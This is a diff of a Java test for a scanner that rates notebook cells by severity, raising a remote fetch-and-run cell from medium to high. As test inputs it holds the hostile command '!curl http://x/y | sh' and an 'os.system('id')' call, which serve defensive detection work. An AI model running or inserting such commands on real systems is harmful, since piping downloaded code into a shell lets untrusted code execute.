@@ -253,7 +253,7 @@ class ModelFormatsScanTest {
     @Test
     void notebooksAreJudgedByTheirCells() {
         assertThat(notebook("import os\\nos.system('id')")).isEqualTo(Severity.MEDIUM);
-        assertThat(notebook("!curl http://x/y | sh")).isEqualTo(Severity.MEDIUM);
+        assertThat(notebook("!curl http://x/y | sh")).isEqualTo(Severity.HIGH);
         assertThat(notebook("import requests\\nrequests.get(url)\\nmodel.eval()"))
                 .isLessThan(Severity.MEDIUM);
         assertThat(notebook("!pip install torch\\nprint('os.system(1)')"))
